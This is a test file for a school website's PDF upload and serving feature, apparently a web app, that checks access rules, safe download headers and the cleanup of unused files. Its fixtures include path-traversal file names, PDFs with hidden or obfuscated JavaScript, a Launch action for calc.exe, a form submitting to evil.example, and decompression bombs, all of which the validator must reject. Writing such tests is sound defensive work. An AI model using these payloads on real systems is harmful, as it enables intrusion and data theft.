import { readdir, utimes, writeFile } from "node:fs/promises"
import { join } from "node:path"
import { deflateSync } from "node:zlib"
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest"
import { type Client, codeOf } from "../../test/client.ts"
import { School } from "../../test/school.ts"
import { Role } from "../access/roles.ts"
import { imagesFolder } from "../settings.ts"
import { StoredDocument } from "./document.ts"

const store = "mutation ($file: Upload!) { uploadDocument(file: $file) { name bytes createdAt url } }"
const edit =
  "mutation ($id: Int!, $input: EditPageInput!) { editPage(id: $id, input: $input) { documents { title file { name bytes url } } } }"

let school: School
let head: Client

beforeAll(async () => {
  school = await School.open()
  head = await school.signedIn(Role.ADMINISTRATOR)
})
afterAll(() => school.close())

/** A whole PDF of these objects, as small as one can be. */
function pdf(...objects: (string | Buffer)[]): Buffer {
  const bodies = objects.map((body, index) => [`${index + 3} 0 obj\n`, body, "\nendobj\n"])
  const pages = ["1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 0/Kids[]>>\nendobj\n"]
  const parts = ["%PDF-1.7\n", ...pages, ...bodies.flat(), "trailer\n<</Root 1 0 R>>\n%%EOF\n"]
  return Buffer.concat(parts.map((part) => Buffer.from(part as string, "latin1")))
}

const stream = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([Buffer.from(`<<${dictionary}/Length ${bytes.length}>>\nstream\n`), bytes, Buffer.from("\nendstream")])
const packed = (text: string) => stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", deflateSync(`3 0 ${text}`))

const upload = (bytes: Buffer, { by = head, name = "Lunch menu (Term 1).pdf" } = {}) =>
  by.upload(store, {}, new Blob([bytes as BlobPart], { type: "application/pdf" }), "variables.file", name)
const stored = async (bytes = pdf()) => (await upload(bytes)).data.uploadDocument
const pageId = async (key: string) =>
  (await head.ask("query ($key: String!) { page(key: $key) { id } }", { key })).data.page.id
const show = async (key: string, documents: { name: string; title: string }[]) =>
  head.graphql(edit, { id: await pageId(key), input: { documents } })
const get = (url: string) => fetch(school.url + url)

describe("a document", () => {
  it("is uploaded by administrators, and given out once a page shows it, to be saved and never run", async () => {
    const bytes = pdf("(Monday: soup)")
    const document = await stored(bytes)
    expect(document).toMatchObject({ bytes: bytes.length, url: `/documents/${document.name}` })
    expect(document.name).toMatch(/^\d{13}-Lunch-menu-Term-1\.pdf$/)
    expect((await get(document.url)).status).toBe(404)

    const { data } = await show("lunch", [{ name: document.name, title: "Menu" }])
    const { name, url } = document
    expect(data.editPage.documents).toEqual([{ title: "Menu", file: { name, url, bytes: bytes.length } }])
    const answer = await get(url)
    expect(answer.status).toBe(200)
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      "content-type": "application/pdf",
      "content-length": String(bytes.length),
      "content-disposition": `attachment; filename="${name}"`,
      "content-security-policy": "default-src 'none'; sandbox",
      "x-content-type-options": "nosniff",
      "cache-control": "public, max-age=86400, s-maxage=60",
    })
    expect(Buffer.from(await answer.arrayBuffer())).toEqual(bytes)

    await show("lunch", [])
    expect((await get(url)).status).toBe(404)
  })

  it("is for nobody below an administrator to upload", async () => {
    const editor = await school.signedIn(Role.EDITOR)
    expect(codeOf(await upload(pdf(), { by: editor }))).toBe("FORBIDDEN")
  })

  it.each(["nothing.pdf", "..%2fsite.sqlite", "%2e%2e%2ftoken-secret.pdf", "%00.pdf"])(
    "is nothing but that: %s",
    async (name) => {
      expect((await get(`/documents/${name}`)).status).toBe(404)
    },
  )

  it("that is not stored cannot be shown", async () => {
    const answer = await show("fees", [{ name: "nothing.pdf", title: "Fees" }])
    expect(answer.errors?.[0]?.extensions.fields).toEqual({ "documents.0.name": "Please choose the file again." })
  })
})

describe("a file that may not be served", () => {
  it.each<[what: string, bytes: Buffer, told: RegExp]>([
    ["no PDF", Buffer.from("<html><script>alert(1)</script>"), /choose a PDF/],
    ["one that is cut off", pdf().subarray(0, 40), /choose a PDF/],
    ["with a script", pdf("<</S/JavaScript/JS(app.alert(1))>>"), /holds a script/],
    ["with a script whose name is disguised", pdf("<</S/J#61v#61Script/JS(1)>>"), /holds a script/],
    ["with a script in a packed stream", pdf(packed("<</S/JavaScript/JS(1)>>")), /holds a script/],
    ["with a command", pdf("<</S /Launch /F(calc.exe)>>"), /starts a program/],
    [
      "with a file within it",
      pdf("<</Type/Filespec/EF<<>>>>", stream("/Type/EmbeddedFile", Buffer.from("x"))),
      /another file/,
    ],
    ["with files within it", pdf("<</Names<</EmbeddedFiles 6 0 R>>>>"), /another file/],
    ["with a film", pdf("<</Subtype/RichMedia>>"), /a film/],
    ["with an animation", pdf("<</S/Rendition/OP 0>>"), /an animation/],
    ["with a film of the older kind", pdf("<</Subtype/Movie>>"), /a film/],
    ["that reads other files", pdf("<</S/ImportData/F(a.fdf)>>"), /reads other files/],
    ["with a link into a file within it", pdf("<</S/GoToE/T<<>>>>"), /a link into a file/],
    ["with a form that acts", pdf("<</AcroForm<</XFA 7 0 R>>>>"), /acts by itself/],
    ["with a form that sends", pdf("<</S/SubmitForm/F(https://evil.example)>>"), /sends what is typed/],
    ["with a password", pdf("<</Encrypt 5 0 R>>"), /holds a password/],
    [
      "packed so that nobody can look",
      pdf(stream("/Type/ObjStm/Filter/LZWDecode", Buffer.from("x"))),
      /looked through/,
    ],
    [
      "that unpacks to fill the memory",
      pdf(stream("/Filter/FlateDecode", deflateSync(Buffer.alloc(101_000_000)))),
      /100 MB/,
    ],
    [
      "that unpacks to fill it part by part",
      pdf(...Array(3).fill(stream("/Filter/FlateDecode", deflateSync(Buffer.alloc(34_000_000))))),
      /100 MB/,
    ],
  ])("is refused in words: %s", async (_, bytes, told) => {
    const answer = await upload(bytes)
    expect(codeOf(answer)).toBe("BAD_USER_INPUT")
    expect(answer.errors?.[0]?.extensions.fields).toEqual({ file: expect.stringMatching(told) })
  })

  it("is not refused for a word in its text, nor for a page to begin with", async () => {
    const text = stream("/Filter/FlateDecode", deflateSync("BT (JavaScript for beginners) Tj ET"))
    expect((await stored(pdf(text, "<</OpenAction[3 0 R/Fit]>>"))).name).toMatch(/\.pdf$/)
  })

  it("leaves nothing behind, and may have 10 MB", async () => {
    const folder = imagesFolder(school.dataDir)
    const before = await readdir(folder)
    expect(codeOf(await upload(Buffer.concat([pdf(), Buffer.alloc(10_000_001)])))).toBe("TOO_LARGE")
    vi.spyOn(school.services.database, "write").mockRejectedValueOnce(new Error("The disk is full."))
    expect(codeOf(await upload(pdf()))).toBe("INTERNAL_SERVER_ERROR")
    vi.restoreAllMocks()
    expect(await readdir(folder)).toEqual(before)
  })
})

describe("the file of a document", () => {
  it("stays when those that no row names are swept away", async () => {
    const own = await School.open()
    const by = await own.signedIn(Role.ADMINISTRATOR)
    const { name } = (await upload(pdf(), { by })).data.uploadDocument
    const folder = imagesFolder(own.dataDir)
    const nobodys = join(folder, "nobodys.pdf")
    await writeFile(nobodys, pdf())
    const hoursAgo = new Date(Date.now() - 3 * 60 * 60 * 1000)
    for (const file of [join(folder, name), nobodys]) await utimes(file, hoursAgo, hoursAgo)
    // A site sweeps when it starts, and has swept when it has ended.
    const again = await (await own.restarted()).restarted()
    expect((await readdir(folder)).filter((file) => file.endsWith(".pdf"))).toEqual([name])
    await again.close()
  })
})

describe("a document that no page shows", () => {
  const age = (name: string) =>
    school.services.database.write((rows) =>
      rows.update(StoredDocument, { name }, { createdAt: new Date(Date.now() - 25 * 60 * 60 * 1000) }),
    )
  const isThere = async (name: string) => (await readdir(imagesFolder(school.dataDir))).includes(name)

  it("goes after a day, unless an earlier version of a page names it, which brings it back", async () => {
    const [unused, shown, earlier] = [await stored(), await stored(), await stored()]
    await show("uniform", [{ name: earlier.name, title: "Earlier" }])
    await show("uniform", [{ name: shown.name, title: "Now" }])
    for (const { name } of [unused, shown, earlier]) await age(name)
    const fresh = await stored()
    await school.services.documents.sweep()
    expect(await Promise.all([unused, shown, earlier, fresh].map(({ name }) => isThere(name)))).toEqual([
      ...[false, true, true, true],
    ])

    expect((await get(earlier.url)).status).toBe(404)
    const id = await pageId("uniform")
    const versions = "query ($id: Int!) { versions(type: PAGE, id: $id) { items { id } } }"
    const [, before] = (await head.ask(versions, { id })).data.versions.items
    await head.ask("mutation ($id: Int!) { restoreVersion(id: $id) { __typename } }", { id: before.id })
    expect((await get(earlier.url)).status).toBe(200)
  })

  it("stays where a page names it just as it is about to go", async () => {
    const { name, url } = await stored()
    await age(name)
    const { database, documents } = school.services
    const write = database.write.bind(database)
    vi.spyOn(database, "write").mockImplementationOnce(async (...work: Parameters<typeof write>) => {
      await show("sport", [{ name, title: "Fixtures" }])
      return write(...work)
    })
    await documents.sweep()
    vi.restoreAllMocks()
    expect([await isThere(name), (await get(url)).status]).toEqual([true, 200])
  })
})
